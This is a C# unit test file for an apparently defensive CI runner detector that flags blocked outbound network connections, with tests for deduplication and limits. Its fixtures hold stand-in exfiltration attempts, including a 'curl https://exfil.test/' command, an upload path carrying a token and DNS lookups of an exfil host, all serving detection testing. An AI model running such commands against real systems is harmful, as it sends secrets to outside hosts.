using HardenRunner.Events;
using HardenRunner.Monitoring.Detectors;
using HardenRunner.Policy.Model;

namespace HardenRunner.Tests.Monitoring;

public sealed class EgressBlockedDetectorTests
{
    private static readonly ProcessInfo Curl = new(100, "/usr/bin/curl", "curl https://exfil.test/");
    private static readonly ProcessInfo Python = new(200, "/usr/bin/python3.11", "python3 x.py");
    private static readonly StepInfo Step = new("upload", "evil/action");

    private static NetworkEvent Blocked(string kind, string? host, string? address, int port, ProcessInfo? process = null, StepInfo? step = null, string? path = null) =>
        new(DateTimeOffset.UnixEpoch, kind, host, address, port, Decision.Deny, NetworkEvent.Blocked, "not in allowed-endpoints", Method: path is null ? null : "POST", Path: path)
        {
            Process = process,
            Step = step,
        };

    [Fact]
    public void BlockedEvent_PassesThrough_AndRaisesOneDetectionWithItsProcessAndStep()
    {
        var sink = new CollectingSink();
        var detector = new EgressBlockedDetector(sink);
        var e = Blocked("https", "exfil.test", "198.51.100.20", 443, Curl, Step, path: "/upload?token=***");

        detector.Publish(e);

        Assert.Same(e, sink.All<NetworkEvent>().Single());
        var d = sink.All<DetectionEvent>().Single();
        Assert.Equal((DetectionTypes.EgressBlocked, DetectionTypes.Medium), (d.Type, d.Severity));
        Assert.Same(Curl, d.Process);
        Assert.Same(Step, d.Step);
        Assert.Equal(e.Time, d.Time);
        Assert.Equal("exfil.test", d.Evidence["destination"]);
        Assert.Equal("443", d.Evidence["port"]);
        Assert.Equal("not in allowed-endpoints", d.Evidence["rule"]);
        Assert.Contains("by curl in step upload", d.Summary, StringComparison.Ordinal);
        Assert.DoesNotContain("/upload", d.Summary + string.Join(',', d.Evidence.Values), StringComparison.Ordinal); // paths may carry the data
    }

    [Fact]
    public void PassedEvents_AndOtherEvents_RaiseNothing()
    {
        var sink = new CollectingSink();
        var detector = new EgressBlockedDetector(sink);
        detector.Publish(Blocked("tcp", null, "198.51.100.20", 9000, Curl) with { Action = NetworkEvent.Passed }); // audit: deny, passed
        detector.Publish(new NetworkEvent(DateTimeOffset.UnixEpoch, "dns", "allowed.test", null, 53, Decision.Allow, NetworkEvent.Passed, "allowed"));
        detector.Publish(new DetectionEvent(DateTimeOffset.UnixEpoch, "sudo-used", "medium", "x", new Dictionary<string, string>()));

        Assert.Equal(3, sink.All<ApplianceEvent>().Count());
        Assert.Single(sink.All<DetectionEvent>()); // only the one published
    }

    [Fact]
    public void OneDetectionPerDestinationProcessAndStep_UpToTheLimit_RestCounted()
    {
        var sink = new CollectingSink();
        var detector = new EgressBlockedDetector(sink, maxDetections: 3);
        detector.Publish(Blocked("tcp", null, "198.51.100.20", 9000, Curl, Step));
        detector.Publish(Blocked("tcp", null, "198.51.100.20", 9000, Curl, Step));   // repeat: nothing new
        detector.Publish(Blocked("tcp", null, "198.51.100.20", 9000, Python, Step)); // another process
        detector.Publish(Blocked("udp", null, "198.51.100.20", 9000, Curl, Step));   // another kind
        detector.Publish(Blocked("dns", "x.exfil.test", null, 53));                  // over the limit
        detector.Publish(Blocked("dns", "x.exfil.test", null, 53));

        Assert.Equal(6, sink.All<NetworkEvent>().Count());
        Assert.Equal(3, sink.All<DetectionEvent>().Count());
        Assert.Equal(2, detector.Suppressed);
    }
}
